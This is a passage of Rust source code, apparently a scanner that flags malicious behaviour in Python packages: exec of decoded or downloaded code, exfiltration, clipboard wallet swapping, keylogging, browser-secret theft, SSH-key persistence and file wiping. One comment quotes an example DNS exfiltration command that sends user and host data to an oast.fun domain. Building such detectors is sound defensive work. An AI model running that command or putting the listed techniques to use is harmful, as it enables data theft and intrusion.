                    format!("replaces `{target}` with a function that sends data over the network"),
                    Some(scope.undiscounted(ctx.top)),
                );
                break;
            }
        }
        for mut w in self.written.take() {
            w.parts.sort_by_key(|p| p.0);
            let code: Vec<u8> = w.parts.into_iter().flat_map(|p| p.1).collect();
            if code.len() >= 16 && looks_like_python(&code) {
                self.analyze_layer(&code, w.transformed, (w.line, w.scope), ctx, sink, facts);
            }
        }
    }

    fn on_import(&self, n: Node<'t>, sink: &mut Sink) {
        let src = self.src;
        if kind(n) == "import_from_statement" {
            if let Some(m) = n.child_by_field_id(field!("module_name"))
                && kind(m) == "dotted_name"
            {
                let t = text(m, src);
                sink.imports
                    .insert(t.split('.').next().unwrap_or(t).to_string());
            }
            return;
        }
        let mut c = n.walk();
        for ch in n.named_children(&mut c) {
            let name = match kind(ch) {
                "aliased_import" => ch.child_by_field_id(field!("name")).map(|x| text(x, src)),
                "dotted_name" => Some(text(ch, src)),
                _ => None,
            };
            if let Some(t) = name {
                sink.imports
                    .insert(t.split('.').next().unwrap_or(t).to_string());
            }
        }
    }

    fn function_scope(&self, n: Node<'t>, ctx: &PyCtx<'_>) -> Scope {
        let src = self.src;
        let name = n
            .child_by_field_id(field!("name"))
            .map(|x| text(x, src))
            .unwrap_or("");
        let cls = self.fn_class_by_id.get(&n.id());
        let in_install_class = cls
            .as_ref()
            .is_some_and(|c| self.install_classes.contains(*c));
        if in_install_class || self.reach_install.contains(name) {
            return Scope {
                stage: Stage::Install,
                factor: ctx.top.factor.max(ctx.func.factor),
            };
        }
        if self.reach_top.contains(name) {
            return ctx.top;
        }
        ctx.func
    }

    fn on_platform(&self, n: Node<'t>, sink: &mut Sink) {
        let t = text(n, self.src);
        if !(t.contains("sys.platform")
            || t.contains("os.name")
            || t.contains("platform.system()")
            || t.contains("platform()"))
        {
            return;
        }
        add_platforms(t, sink);
    }

    fn on_string(
        &self,
        n: Node<'t>,
        (scope, fid): (Scope, usize),
        is_doc: bool,
        ctx: &PyCtx<'_>,
        (sink, facts): (&mut Sink, &mut Facts),
        pushes: &mut usize,
    ) {
        let src = self.src;
        let raw = text(n, src);
        let value = match kind(n) {
            "string" => pylit::decode(raw).map(|l| l.bytes),
            _ => self.static_bytes(n, 0).map(|b| b.0),
        }
        .unwrap_or_else(|| raw.as_bytes().to_vec());
        let s = String::from_utf8_lossy(&value);
        if !is_doc && sink.strings.len() < 1 << 20 {
            let cut = s.len().min(4096);
            let cut = (0..=cut)
                .rev()
                .find(|i| s.is_char_boundary(*i))
                .unwrap_or(0);
            sink.strings.push_str(&s[..cut]);
            sink.strings.push('\n');
        }
        // Docstrings and bare string statements are documentation.
        if is_doc || *pushes > 400 {
            return;
        }
        let line = line_of(n);
        for (rule, pat) in patterns::string_rules(&s) {
            *pushes += 1;
            push(
                sink,
                ctx,
                rule,
                line,
                &s,
                format!("string names `{pat}`"),
                Some(scope),
            );
        }
        if s.contains("http") || s.contains("discord") || s.contains("t.me") {
            for (rule, url, what) in ext::url_rules(&s) {
                *pushes += 1;
                if malgraph_ioc::is_staged_executable_url(&url) {
                    facts.staged_exe_url.push((fid, line, scope, snippet(&url)));
                }
                push(sink, ctx, rule, line, &url, what, Some(scope));
            }
        }
        if value.len() >= 1000 && is_encoded_pe(&value) {
            *pushes += 1;
            push(
                sink,
                ctx,
                "PY-EMBEDDED-PE",
                line,
                &s,
                format!(
                    "{}-byte string holds an encoded Windows executable",
                    value.len()
                ),
                Some(scope),
            );
        } else if value.len() >= 2000 && is_blob(&value) && !is_doc {
            *pushes += 1;
            push(
                sink,
                ctx,
                "PY-OBF-ENCODED-BLOB",
                line,
                &s,
                format!(
                    "{}-byte encoded blob (entropy {:.1})",
                    value.len(),
                    decode::entropy(&value)
                ),
                Some(scope),
            );
        }
    }

    fn on_call(
        &self,
        n: Node<'t>,
        scope: Scope,
        fid: usize,
        ctx: &PyCtx<'_>,
        sink: &mut Sink,
        facts: &mut Facts,
    ) {
        let src = self.src;
        let Some(f) = n.child_by_field_id(field!("function")) else {
            return;
        };
        let Some((name, escaped)) = self.canon(f, 0) else {
            return;
        };
        let args = self.args(n);
        let positional: Vec<Node<'t>> = args
            .iter()
            .copied()
            .filter(|a| kind(a) != "keyword_argument")
            .collect();
        let kw = |k: &str| -> Option<Node<'t>> {
            args.iter().find_map(|a| {
                (keyword_name(*a, src) == Some(k))
                    .then(|| a.child_by_field_id(field!("value")))
                    .flatten()
            })
        };
        let line = line_of(n);
        let snip = head_text(n, src);
        let name = name.as_str();
        let last = name.rsplit('.').next().unwrap_or(name);

        // Platform tests written as calls: sys.platform.startswith('win').
        if last == "startswith"
            && (name.starts_with("sys.platform") || name.starts_with("platform.system"))
        {
            add_platforms(snip, sink);
        }

        let disguised = |sink: &mut Sink, message: String| {
            push(
                sink,
                ctx,
                "PY-EVASION-BUILTINS",
                line,
                snip,
                message,
                Some(scope),
            );
        };
        let reached_indirectly = || {
            format!(
                "`{name}` reached indirectly (through the builtins module, or by evaluating its name)"
            )
        };
        // A builtin reached by evaluating its name (the value is used later, through a
        // variable or at once: `eval("exec")(code)`).
        if let Some(b) = self.builtin_by_name(name, n) {
            disguised(sink, format!("`{b}` reached by evaluating its name"));
        }
        // Code execution.
        if matches!(name, "exec" | "eval" | "compile" | "execfile")
            || name == "builtins.exec"
            || name == "builtins.eval"
        {
            if escaped {
                disguised(sink, reached_indirectly());
            }
            let code_arg = positional.first().copied().or_else(|| kw("source"));
            if let Some(arg) = code_arg {
                self.on_exec(name, arg, line, snip, scope, ctx, sink, facts);
            }
            return;
        }
        if escaped && matches!(last, "system" | "popen" | "__import__" | "getattr") {
            disguised(sink, reached_indirectly());
        }
        if matches!(
            name,
            "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main"
        ) && !ctx.in_pip
        {
            // (pip's own code, or a vendored copy of it, calling its entry point is not
            // a package installing others.)
            push(
                sink,
                ctx,
                "CMD-INDIRECT-IMPORT",
                line,
                snip,
                format!("installs packages from code with `{name}`"),
                Some(scope),
            );
            return;
        }
        // (Not a loop over harmless names: `for f in "sum len".split(): getattr(builtins, f)`.)
        if name == "getattr"
            && positional.first().is_some_and(|a| {
                matches!(text(*a, src), "__builtins__" | "builtins" | "__builtin__")
            })
            && !positional
                .get(1)
                .and_then(|a| self.loop_values(*a))
                .is_some_and(|vs| {
                    vs.iter()
                        .all(|v| !CODE_REACHING_BUILTINS.contains(&v.trim()))
                })
        {
            disguised(sink, "looks up a builtin by a computed name".into());
        }
        // Not when the same file marshals values itself: `loads(dumps(x))` round trips
        // are a fast deep copy (rich's Style), not shipped bytecode.
        let marshals_itself = || {
            memfind(src, b"marshal.dumps") || self.aliases.values().any(|v| v == "marshal.dumps")
        };
        if name == "marshal.loads" && !marshals_itself() {
            push(
                sink,
                ctx,
                "PY-EXEC-MARSHAL",
                line,
                snip,
                "loads marshalled bytecode".into(),
                Some(scope),
            );
            return;
        }
        if matches!(name, "__import__" | "importlib.import_module")
            && let Some(a) = positional.first()
            && self.origin(*a, 0) & (DECODED | OBF) != 0
        {
            push(
                sink,
                ctx,
                "PY-OBF-STRING-TRICKS",
                line,
                snip,
                "imports a module whose name is decoded at run time".into(),
                Some(scope),
            );
        }

        // Command execution.
        if is_command(name) {
            let cmd_node = positional.first().copied().or_else(|| kw("args"));
            let mut cmd = cmd_node.map(|c| self.cmd_text(c, 0)).unwrap_or_default();
            if let Some(ps) = powershell_decode(&cmd) {
                cmd.push_str(" ; ");
                cmd.push_str(&ps);
            }
            // `[sys.executable, "-c", code]`: the list form of `python -c`.
            let list_code = || {
                let l = cmd_node.filter(|c| matches!(kind(*c), "list" | "tuple"))?;
                let mut c = l.walk();
                let items: Vec<Node<'t>> = l.named_children(&mut c).take(3).collect();
                let interp = text(*items.first()?, src) == "sys.executable"
                    || self
                        .static_str(items[0])
                        .is_some_and(|p| patterns::is_script_run(&format!("{p} x")));
                (interp && self.static_str(*items.get(1)?).as_deref() == Some("-c"))
                    .then(|| self.static_str(*items.get(2)?))
                    .flatten()
            };
            if let Some(code) = python_c_code(&cmd).or_else(list_code)
                && ctx.depth_left > 0
            {
                self.analyze_layer(code.as_bytes(), false, (line, scope), ctx, sink, facts);
            }
            push(
                sink,
                ctx,
                "PY-CMD-EXEC",
                line,
                snip,
                format!("runs a command with `{name}`: {}", snippet(&cmd)),
                Some(scope),
            );
            let rules_hit = patterns::command_rules(&cmd);
            if scope.stage == Stage::Install && rules_hit.iter().any(|p| p.rule == "CMD-DOWNLOADER")
            {
                facts.network.push((fid, line, scope, snippet(snip)));
                push(
                    sink,
                    ctx,
                    "PY-NET-AT-INSTALL",
                    line,
                    snip,
                    "downloads with a command-line tool while installing".into(),
                    Some(scope),
                );
            }
            for p in rules_hit {
                push(
                    sink,
                    ctx,
                    p.rule,
                    line,
                    snip,
                    format!("command {}: {}", p.what, snippet(&cmd)),
                    Some(scope),
                );
            }
            let o = cmd_node.map(|c| self.origin(c, 0)).unwrap_or(0);
            // Collected data handed to a command that talks to the network
            // (`nslookup $(echo {user}@{host}|base64).x.oast.fun`).
            if o & (HOST | ENV | STOLEN) != 0 && patterns::is_network_command(&cmd) {
                push(
                    sink,
                    ctx,
                    "EXFIL-SEND-COLLECTED",
                    line,
                    snip,
                    "sends host or environment data with a network command".into(),
                    Some(scope),
                );
            }
            // A command received from the network: what to run is chosen by whoever
            // answers, no benign reading, so a function body weighs like the top level
            // (like code fetched and run).
            let decoded = if o & DOWNLOADED != 0 {
                Some((
                    "runs a command received from the network",
                    scope.undiscounted(ctx.top),
                ))
            } else if o & (DECODED | OBF) != 0 {
                Some((
                    "runs a command that is decoded or downloaded at run time",
                    scope,
                ))
            } else {
                None
            };
            if let Some((msg, at)) = decoded {
                push(sink, ctx, "CMD-DECODED", line, snip, msg.into(), Some(at));
            } else if let Some(c) = cmd_node
                && let Some((fname, idx)) = self.param_of(c)
            {
                self.param_commands
                    .borrow_mut()
                    .push((fname, idx, line, scope, snippet(snip)));
            }
            if o & SOCKDATA != 0 {
                push(
                    sink,
                    ctx,
                    "PY-RC-SOCKET-COMMAND",
                    line,
                    snip,
                    "runs commands received over a socket".into(),
                    Some(scope),
                );
            }
            if o & UNKNOWN != 0 && self.chat_handlers.contains(&fid) {
                push(
                    sink,
                    ctx,
                    "PY-RC-CHAT-COMMAND",
                    line,
                    snip,
                    "a chat-bot handler runs the command it receives".into(),
                    Some(scope),
                );
            }
            if cmd.contains("/bin/sh") || cmd.contains("/bin/bash") || cmd.contains("cmd.exe") {
                facts.shell_ref = true;
            }
            if patterns::is_repo_clone(&cmd) {
                facts.clone_repo.push((fid, line, scope, snippet(snip)));
            } else if patterns::is_script_run(&cmd) {
                facts.run_script.push((fid, line, scope, snippet(snip)));
            }
            facts.run_program.push((fid, line, scope, snippet(snip)));
            for script in patterns::script_names(&cmd) {
                facts.run_files.push((script, line, scope, snippet(snip)));
            }
            if let Some(c) = cmd_node {
                let (first, whole) = match kind(c) {
                    "list" | "tuple" => (c.named_child(0), true),
                    _ => (Some(c), false),
                };
                if let Some(prog) = first.and_then(|x| self.program_name(x, whole)) {
                    facts.run_files.push((prog, line, scope, snippet(snip)));
                }
            }
            return;
        }
        if name == "os.startfile"
            || name.ends_with("ShellExecuteW")
            || name.ends_with("ShellExecuteA")
        {
            push(
                sink,
                ctx,
                "PY-CMD-STARTFILE",
                line,
                snip,
                format!("opens a file with the shell (`{name}`)"),
                Some(scope),
            );
            facts.run_program.push((fid, line, scope, snippet(snip)));
            let target = if name == "os.startfile" {
                positional.first()
            } else {
                positional.get(2)
            };
            if let Some(prog) = target.and_then(|x| self.program_name(*x, true)) {
                facts.run_files.push((prog, line, scope, snippet(snip)));
            }
            return;
        }
        if name == "os.dup2" {
            facts.dup2 = Some((line, scope, snippet(snip)));
            return;
        }
        // Machine code run from memory: executable memory and a thread or function
        // pointer started on it (combined per file in the analyser).
        if matches!(
            last,
            "VirtualAlloc"
                | "VirtualAllocEx"
                | "VirtualProtect"
                | "VirtualProtectEx"
                | "NtAllocateVirtualMemory"
        ) || (last == "mmap" && snip.contains("PROT_EXEC"))
        {
            facts.native_alloc.push((fid, line, scope, snippet(snip)));
            return;
        }
        if matches!(
            last,
            "CreateThread"
                | "CreateRemoteThread"
                | "QueueUserAPC"
                | "NtCreateThreadEx"
                | "RtlCreateUserThread"
                | "CFUNCTYPE"
                | "WINFUNCTYPE"
        ) {
            facts.native_run.push((fid, line, scope, snippet(snip)));
            return;
        }
        if matches!(name, "runpy.run_path" | "runpy.run_module") {
            // Runs a Python file or module: a program, for drop-and-run.
            facts.run_program.push((fid, line, scope, snippet(snip)));
            return;
        }
        // Code loaded from a path or a directory put on the import path: joined with a
        // download in the same function only (setup scripts put their own folder on
        // `sys.path` all the time).
        if matches!(
            name,
            "sys.path.insert" | "sys.path.append" | "importlib.import_module"
        ) || matches!(last, "exec_module" | "load_module")
        {
            facts.load_code.push((fid, line, scope, snippet(snip)));
        }

        // Network.
        if is_network(name) {
            if last == "connect" || last == "create_connection" {
                facts.socket_connect = true;
            }
            push(
                sink,
                ctx,
                "PY-NET-REQUEST",
                line,
                snip,
                format!("network access with `{name}`"),
                Some(scope),
            );
            facts.network.push((fid, line, scope, snippet(snip)));
            let sends = matches!(
                last,
                "post"
                    | "put"
                    | "patch"
                    | "send"
                    | "sendall"
                    | "sendto"
                    | "sendmail"
                    | "send_message"
            ) || ["data", "json", "files", "body"]
                .iter()
                .any(|k| kw(k).is_some())
                // A mail connection is opened to send.
                || name.starts_with("smtplib.");
            if sends {
                facts.upload.push((fid, line, scope, snippet(snip)));
            }
            let url = positional
                .first()
                .copied()
                .or_else(|| kw("url"))
                .map(|u| self.cmd_text(u, 0))
                .unwrap_or_default();
            if ext::url_rules(&url)
                .iter()
                .any(|(r, _, _)| *r == "EXFIL-WEBHOOK")
            {
                push(
                    sink,
                    ctx,
                    "EXFIL-WEBHOOK-SEND",
                    line,
                    snip,
                    format!("sends data to a webhook: {}", snippet(&url)),
                    Some(scope),
                );
            }
            if scope.stage == Stage::Install
                || (scope.stage == Stage::Import
                    && scope.factor >= 1.0
                    && ctx.role == Role::Init
                    && fid == 0)
            {
                push(
                    sink,
                    ctx,
                    "PY-NET-AT-INSTALL",
                    line,
                    snip,
                    format!("network access with `{name}` while installing or importing"),
                    Some(scope),
                );
            }
            let mut o = 0;
            // (What `urlretrieve` sends is its URL and data, not the local file name.)
            let sent_args: Vec<Node<'t>> = if last == "urlretrieve" {
                positional
                    .first()
                    .copied()
                    .into_iter()
                    .chain(positional.get(3).copied())
                    .chain(kw("url"))
                    .chain(kw("data"))
                    .collect()
            } else {
                args.iter().take(16).copied().collect()
            };
            for a in sent_args {
                // Credentials in headers or `auth=` authenticate the request; host data
                // there is still sent.
                let auth = matches!(keyword_name(a, src), Some("headers" | "auth" | "cookies"));
                o |= self.origin(a, 0) & if auth { HOST } else { u32::MAX };
            }
            // The whole environment or a credential store sent away has no benign reading,
            // so from a function body it weighs like the file's top level.
            let sent = if o & (ENV | STOLEN) != 0 {
                Some((
                    "sends the whole environment or credential files over the network",
                    scope.undiscounted(ctx.top),
                ))
            } else if o & HOST != 0 {
                Some(("sends host or environment data over the network", scope))
            } else {
                None
            };
            if let Some((msg, at)) = sent {
                push(
                    sink,
                    ctx,
                    "EXFIL-SEND-COLLECTED",
                    line,
                    snip,
                    msg.into(),
                    Some(at),
                );
            }
            if let Some(u) = positional.first()
                && self.origin(*u, 0) & DOWNLOADED != 0
                && is_fetch(name)
            {
                push(
                    sink,
                    ctx,
                    "PY-NET-MULTI-STAGE",
                    line,
                    snip,
                    "requests a URL taken from another response".into(),
                    Some(scope),
                );
            }
            if is_dns(name)
                && let Some(h) = positional.first()
                && kind(h) != "string"
                && self.origin(*h, 0) & (HOST | ENV | OBF | DECODED) != 0
            {
                push(
                    sink,
                    ctx,
                    "EXFIL-DNS",
                    line,
                    snip,
                    "resolves a host name built from collected data".into(),
                    Some(scope),
                );
            }
            if matches!(last, "urlretrieve" | "download") {
                facts
                    .download_to_file
                    .push((fid, line, scope, snippet(snip)));
            }
            return;
        }

        if is_hostinfo(name) || name == "os.getcwd" {
            facts.host_collect.push((fid, line, scope, snippet(snip)));
            if name == "os.getcwd" {
                return;
            }
            push(
                sink,
                ctx,
                "PY-STEAL-HOSTINFO",
                line,
                snip,
                format!("collects host identity with `{name}`"),
                Some(scope),
            );
            return;
        }
        if last == "SourcelessFileLoader"
            || (last == "spec_from_file_location"
                && args.iter().any(|a| {
                    memfind(text(*a, src).as_bytes(), b".pyc")
                        || self.cmd_text(*a, 0).ends_with(".pyc")
                }))
        {
            push(
                sink,
                ctx,
                "PY-LOAD-BYTECODE",
                line,
                snip,
                format!("loads a module from bytecode (`{name}`)"),
                Some(scope),
            );
            return;
        }
        // Every address a pattern matches swapped for a hard-coded one.
        let swap = matches!(name, "re.sub" | "re.subn")
            && positional
                .get(1)
                .and_then(|a| self.static_str(*a))
                .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty());
        if swap || is_clipboard_write(name) {
            // A clipper: puts a wallet address on the clipboard in place of the one the
            // user copied (the address given, or one in a file that also reads it).
            let src_str = || String::from_utf8_lossy(src);
            let given = || {
                positional
                    .first()
                    .and_then(|a| self.static_str(*a))
                    .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty())
            };
            // The clipboard read in a file with an address, or a pattern for addresses.
            let swaps = || {
                (memfind(src, b"paste(")
                    || memfind(src, b"GetClipboardData")
                    || memfind(src, b"clipboard_get("))
                    && (!malgraph_ioc::extract(&src_str()).wallets.is_empty()
                        || patterns::has_wallet_pattern(&src_str()))
            };
            let found = if swap {
                // No benign reading: weighs like the file's top level.
                Some((
                    "replaces what a pattern matches with a hard-coded cryptocurrency address"
                        .to_string(),
                    scope.undiscounted(ctx.top),
                ))
            } else if given() || swaps() {
                Some((
                    format!("puts a cryptocurrency address on the clipboard (`{name}`)"),
                    scope,
                ))
            } else {
                None
            };
            if let Some((msg, at)) = found {
                push(sink, ctx, "STEAL-CLIPPER", line, snip, msg, Some(at));
            }
            return;
        }
        if is_key_capture(name) {
            // Keystrokes have no benign reading once sent: weighs like the top level.
            facts
                .key_capture
                .push((fid, line, scope.undiscounted(ctx.top), snippet(snip)));
        }
        if is_spy(name) {
            push(
                sink,
                ctx,
                "PY-STEAL-SPY",
                line,
                snip,
                format!("reads the clipboard, screen or keyboard (`{name}`)"),
                Some(scope),
            );
            return;
        }
        if name.ends_with("CryptUnprotectData") {
            push(
                sink,
                ctx,
                "STEAL-BROWSER",
                line,
                snip,
                "decrypts protected browser secrets (CryptUnprotectData)".into(),
                Some(scope),
            );
            return;
        }

        // File operations.
        if matches!(
            name,
            "os.remove" | "os.unlink" | "shutil.rmtree" | "os.rmdir" | "pathlib.Path().unlink"
        ) && let Some(a) = positional.first()
        {
            let t = text(*a, src);
            if name == "shutil.rmtree" && patterns::is_wipe_target(&self.path_text(*a, 0), t) {
                push(
                    sink,
                    ctx,
                    "FILE-WIPE",
                    line,
                    snip,
                    format!("deletes a whole home folder or drive: {}", snippet(t)),
                    Some(scope.undiscounted(ctx.top)),
                );
            }
            if t.contains("__file__") || t.contains("sys.argv[0]") {
                push(
                    sink,
                    ctx,
                    "PY-FILE-SELF-DELETE",
                    line,
                    snip,
                    "deletes its own file to erase traces".into(),
                    Some(scope),
                );
            }
            return;
        }
        if matches!(name, "open" | "io.open" | "codecs.open") {
            let mode = positional
                .get(1)
                .copied()
                .or_else(|| kw("mode"))
                .and_then(|m| self.static_str(m))
                .unwrap_or_default();
            if (mode.contains('w') || mode.contains('a'))
                && let Some(p) = positional.first()
            {
                let path = self.cmd_text(*p, 0).to_ascii_lowercase();
                if patterns::string_rules(&path)
                    .iter()
                    .any(|(r, _)| r.starts_with("PERSIST-"))
                {
                    facts
                        .autostart_write
                        .push((fid, line, scope, snippet(snip)));
                }
                let found = [
                    (
                        is_drop_path(&path),
                        "PY-FILE-DROP-EXECUTABLE",
                        "writes an executable or autostart file",
                    ),
                    (
                        patterns::is_ssh_authorized_keys(&path),
                        "PERSIST-SSH-KEY",
                        "opens an SSH authorized_keys file to write",
                    ),
                ];
                for (_, rule, what) in found.into_iter().filter(|f| f.0) {
                    let msg = format!("{what}: {}", snippet(&path));
                    push(sink, ctx, rule, line, snip, msg, Some(scope));
                }
            }
            return;
        }
        if last == "write" || last == "writelines" || last == "write_bytes" {
            if let Some(a) = positional.first() {
                let o = self.origin(*a, 0);
                if o & DOWNLOADED != 0 {
                    facts
                        .download_to_file
                        .push((fid, line, scope, snippet(snip)));
                }
                // An executable image held in the source (`b'\x7fELF...'`, `b'MZ...'`)
                // written out is a payload dropped like a decoded one.
                let literal = self.static_bytes(*a, 0);
                let image = literal.as_ref().is_some_and(|(b, _)| {
                    b.len() >= 120 && (b.starts_with(b"\x7fELF") || b.starts_with(b"MZ"))
                });
                if image {
                    push(
                        sink,
                        ctx,
                        "PY-FILE-DROP-EXECUTABLE",
                        line,
                        snip,
                        "writes an executable image held in the source".into(),
                        Some(scope),
                    );
                }
                if image || o & (DECODED | OBF) != 0 {
                    facts
                        .decoded_to_file
                        .push((fid, line, scope, snippet(snip)));
                }
                // Code written to disk is analysed like decoded code (once all the writes
                // through the same handle are known: see `walk`).
                if let Some((b, tr)) = literal
                    && ctx.depth_left > 0
                    && decode::looks_like_text(&b)
                {
                    let handle = f
                        .child_by_field_id(field!("object"))
                        .map_or("", |o| text(o, src));
                    let mut written = self.written.borrow_mut();
                    match written
                        .iter_mut()
                        .find(|w| w.fid == fid && w.handle == handle)
                    {
                        Some(w) if w.len + b.len() <= decode::MAX_OUT => {
                            w.line = w.line.min(line);
                            w.len += b.len();
                            w.parts.push((n.start_byte(), b));
                            w.transformed |= tr;
                        }
                        Some(_) => {}
                        None => written.push(Written {
                            fid,
                            handle: handle.to_string(),
                            line,
                            scope,
                            len: b.len(),
                            parts: vec![(n.start_byte(), b)],
                            transformed: tr,
                        }),
                    }
                }
            }
            return;
        }
        if matches!(
            name,
            "shutil.copy" | "shutil.copyfile" | "shutil.copy2" | "shutil.move"
        ) && let Some(dst) = positional.get(1)
        {
            let path = self.cmd_text(*dst, 0).to_ascii_lowercase();
            if is_drop_path(&path) {
                push(
                    sink,
                    ctx,
                    "PY-FILE-DROP-EXECUTABLE",
                    line,
                    snip,
                    format!(
                        "copies a file to an autostart or executable path: {}",
                        snippet(&path)
                    ),
                    Some(scope),
                );
            }
            return;
        }

        // Obfuscation tricks that are not fed to exec (exec is handled above).
        if matches!(name, "codecs.decode" | "codecs.encode")
            && let Some(enc) = positional.get(1).and_then(|a| self.static_str(*a))
            && enc.to_ascii_lowercase().starts_with("rot")
        {
            push(
                sink,
                ctx,
                "PY-OBF-STRING-TRICKS",
                line,
                snip,
                "decodes ROT13 text".into(),
                Some(scope),
            );
        }
        if last == "join"
            && OBF_IF_CHR(self, n) != 0
            && let Some((b, true)) = self.static_bytes(n, 0)
            && b.len() >= 8
        {
            push(
                sink,
                ctx,
                "PY-OBF-STRING-TRICKS",
                line,
                snip,
                format!(
                    "builds a string from character codes: {}",
                    snippet(&String::from_utf8_lossy(&b))
                ),
                Some(scope),
            );
        }

        // setup() metadata.
        if matches!(
            name,
            "setup" | "setuptools.setup" | "distutils.core.setup" | "setuptools.setup()"
        ) {
            self.on_setup(&kw, sink);
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn on_exec(
        &self,
        name: &str,
        arg: Node<'t>,
        line: u32,
        snip: &str,
        scope: Scope,
        ctx: &PyCtx<'_>,
        sink: &mut Sink,
        facts: &mut Facts,
    ) {
        let decoded = self.static_bytes(arg, 0);
        let origin = self.origin(arg, 0);
        if let Some((bytes, transformed)) = &decoded {
            if *transformed {
                // Code shipped encoded and decoded to be run has no benign reading in a
                // function either: it weighs like the file's top level.
                push(
                    sink,
                    ctx,
                    "PY-EXEC-DECODED",
                    line,
                    snip,
                    format!(
                        "`{name}` runs code decoded at run time ({} bytes)",
                        bytes.len()
                    ),
                    Some(scope.undiscounted(ctx.top)),
                );
            }
            if ctx.depth_left > 0 && decode::looks_like_text(bytes) {
                self.analyze_layer(bytes, *transformed, (line, scope), ctx, sink, facts);
            }
            return;
        }
        if origin & DOWNLOADED != 0 {
            // Code chosen later by whoever controls the URL has no benign reading: a
            // function body weighs like the top level (like decoded code).
            push(
                sink,
                ctx,
                "PY-EXEC-DOWNLOADED",
                line,
                snip,
                format!("`{name}` runs code fetched from the network"),
                Some(scope.undiscounted(ctx.top)),
            );
        } else if origin & STEGO != 0 {
            push(
                sink,
                ctx,
                "PY-STEGO-EXEC",
                line,
                snip,
                format!("`{name}` runs code hidden in an image"),
                Some(scope),
            );
        } else if origin & (DECODED | OBF) != 0 {
            push(
                sink,
                ctx,
                "PY-EXEC-DECODED",
                line,
                snip,
                format!("`{name}` runs code decoded at run time"),
                Some(scope),
            );
        } else if origin & SOCKDATA != 0 {
            push(
                sink,
                ctx,
                "PY-RC-SOCKET-COMMAND",
                line,
                snip,
                format!("`{name}` runs code received over a socket"),
                Some(scope),
            );
        } else if origin & UNKNOWN != 0 && self.chat_handlers.contains(&self.enclosing_fn(arg)) {
            push(
                sink,
                ctx,
                "PY-RC-CHAT-COMMAND",
                line,
                snip,
                format!("a chat-bot handler runs the code it receives with `{name}`"),
                Some(scope),
            );
        } else if origin & (LIT | FILEREAD) == origin {
            // eval of a literal or exec of a file the package ships: configuration — but
            // a file that is not a Python module is not analysed as one, so the analyser
            // reads it as code run here (a payload kept in `data.txt`).
            if let Some(file) = self.read_file_name(arg)
                && !file.to_ascii_lowercase().ends_with(".py")
            {
                facts.exec_files.push((file, line, scope));
            }
        } else {
            push(
                sink,
                ctx,
                "PY-EXEC-DYNAMIC",
                line,
                snip,
                format!("`{name}` runs dynamically built code"),
                Some(scope),
            );
        }
    }

    /// Base name of the file whose content `n` is: `open(p).read()`, `open(p, 'r').read()`,
    /// `Path(p).read_text()`, `p` resolved as command text.
    fn read_file_name(&self, n: Node<'t>) -> Option<String> {
        let n = if kind(n) == "identifier" {
            self.reaching(n, text(n, self.src))?
        } else {
            n
        };
        if kind(n) != "call" {
            return None;
        }
        let f = n.child_by_field_id(field!("function"))?;
        if kind(f) != "attribute" {
            return None;
        }
        let attr = text(f.child_by_field_id(field!("attribute"))?, self.src);
        if !matches!(attr, "read" | "read_text") {
            return None;
        }
        let opener = f.child_by_field_id(field!("object"))?;
        if kind(opener) != "call" {
            return None;
        }
        let mut path = *self.args(opener).first()?;
        // os.path.join(dirname(__file__), 'data.txt'): the last part names the file.
        if kind(path) == "call"
            && path
                .child_by_field_id(field!("function"))
                .is_some_and(|f| text(f, self.src).ends_with("path.join"))
        {
            path = *self.args(path).last()?;
        }
        let text = self.cmd_text(path, 0);
        let base = patterns::file_name(&text).trim();
        (!base.is_empty() && !base.contains("{}") && base.len() < 200).then(|| base.to_string())
    }

    /// Analyse code recovered from a string (decoded, written to disk, `python -c`).
    fn analyze_layer(
        &self,
        code: &[u8],
        transformed: bool,
        (line, scope): (u32, Scope),
        ctx: &PyCtx<'_>,
        sink: &mut Sink,
        facts: &mut Facts,
    ) {
        let inner = PyCtx {
            path: ctx.path,
            role: ctx.role,
            top: scope,
            func: scope,
            layer: ctx.layer + u32::from(transformed),
            forced: Some(ctx.forced.unwrap_or((scope, line))),
            depth_left: ctx.depth_left.saturating_sub(1),
            max_parse: ctx.max_parse,
            in_pip: ctx.in_pip,
            called: &[],
        };
        let mut layer = Facts::default();
        analyze(code, &inner, sink, &mut layer);
        // (Node ids are addresses: one this large names no function of this file.)
        facts.absorb(layer, usize::MAX - line as usize, line);
    }

    fn on_setup(&self, kw: &dyn Fn(&str) -> Option<Node<'t>>, sink: &mut Sink) {
        let s = |k: &str| kw(k).and_then(|v| self.static_str(self.resolve(v)));
        sink.name = sink.name.take().or_else(|| s("name"));
        sink.version = sink.version.take().or_else(|| s("version"));
        sink.author = sink.author.take().or_else(|| s("author"));
        sink.author_email = sink.author_email.take().or_else(|| s("author_email"));
        sink.summary = sink.summary.take().or_else(|| s("description"));
        sink.homepage = sink.homepage.take().or_else(|| s("url"));
        for k in ["install_requires", "setup_requires"] {
            if let Some(v) = kw(k) {
                let v = self.resolve(v);
                if let Some(items) = self.static_seq(v, 0)
                    && matches!(kind(v), "list" | "tuple")
                {
                    for it in items {
                        let d = String::from_utf8_lossy(&it).to_string();
                        crate::meta::push_dep(&mut sink.dependencies, &d);
                    }
                }
            }
        }
    }

    fn resolve(&self, n: Node<'t>) -> Node<'t> {
        if kind(n) == "identifier"
            && let Some(v) = self.lookup(n, text(n, self.src))
            && v.len() == 1
        {
            return v[0];
        }
        n
    }

    /// Best-effort text of a command or path argument; unknown parts become `{}`.
    /// The file name (no folder) of the program a command starts: the whole text of `n`
    /// when it is the path alone (`whole`, a list's first item), else its first word.
    fn program_name(&self, n: Node<'t>, whole: bool) -> Option<String> {
        let t = self.path_text(n, 0);
        let t = if whole {
            t.trim()
        } else {
            t.split_whitespace().next().unwrap_or("")
        };
        let t = t.trim_matches(['"', '\'']);
        let name = patterns::file_name(t);
        (!name.is_empty() && !name.contains('{')).then(|| name.to_string())
    }

    /// Text of a file-system path as far as known: like `cmd_text`, but `os.path.join`
    /// joins all its parts (`cmd_text` keeps the first, which the command rules were
    /// measured with).
    fn path_text(&self, n: Node<'t>, depth: u32) -> String {
        if depth > 8 {
            return "{}".into();
        }
        match kind(n) {
            "identifier" => match self.reaching(n, text(n, self.src)) {
                Some(v) => self.path_text(v, depth + 1),
                None => "{}".into(),
            },
            "call"
                if n.child_by_field_id(field!("function"))
                    .and_then(|f| self.canon(f, 0))
                    .is_some_and(|c| {
                        matches!(
                            c.0.as_str(),
